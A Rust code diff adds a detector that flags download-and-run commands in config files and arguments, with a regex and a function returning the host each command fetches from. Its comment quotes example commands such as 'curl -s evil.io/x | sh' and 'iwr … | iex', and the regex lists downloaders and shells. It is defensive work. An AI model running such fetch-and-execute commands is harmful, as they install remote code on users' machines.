@@ -92,6 +92,43 @@ fn in_a_run_folder(normal: &str) -> bool {
         .any(|run| folders.windows(run.len()).any(|w| w == *run))
 }
 
+/// A command that downloads a program and runs it, in any file or argument: `curl -s
+/// evil.io/x | sh`, `wget -qO- … | bash`, `bash <(curl …)`, `iwr … | iex`. Config files
+/// of every kind run commands (a VS Code workspace's tasks, an `hgrc` hook, an ESLint config,
+/// a dev container's `postCreateCommand`, a composite action), so the shape of the command
+/// is what is read, not the name of the file (a fifth outsider round wrote one into seven
+/// files no list of run files held). The capture is the place it downloads from.
+static FETCH_AND_RUN: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(
+        r#"(?i)(?:\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n|;&]*?(?:https?://|ftp://|//)?([a-z0-9][a-z0-9.-]*\.[a-z]{2,}(?::\d+)?|\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?)[^\n|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:sh|bash|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|php|iex|invoke-expression|pwsh|powershell)\b)|(?:\b(?:sh|bash|zsh|source|\.)\s+<\(\s*(?:curl|wget)\b[^\n)]*?(?:https?://|//)?([a-z0-9][a-z0-9.-]*\.[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}))"#,
+    )
+    .ok()
+});
+
+/// The places a value's commands download a program from and run it ([`FETCH_AND_RUN`]).
+pub fn fetched_and_run(value: &str) -> Vec<&str> {
+    let lower_has = |needle: &str| {
+        value
+            .as_bytes()
+            .windows(needle.len())
+            .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
+    };
+    if !["curl", "wget", "iwr", "irm", "invoke-", "fetch"]
+        .iter()
+        .any(|d| lower_has(d))
+    {
+        return Vec::new();
+    }
+    let Some(re) = FETCH_AND_RUN.as_ref() else {
+        // A pattern that does not compile must not pass every download: treat any command
+        // with a downloader as one (tests assert it compiles).
+        return vec![value];
+    };
+    re.captures_iter(value)
+        .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()))
+        .collect()
+}
+
 /// Whether a call writes a file that will run: a path-like argument names one, or a string
 /// argument starts with `#!`.
 pub fn writes_code(args: &Value) -> bool {
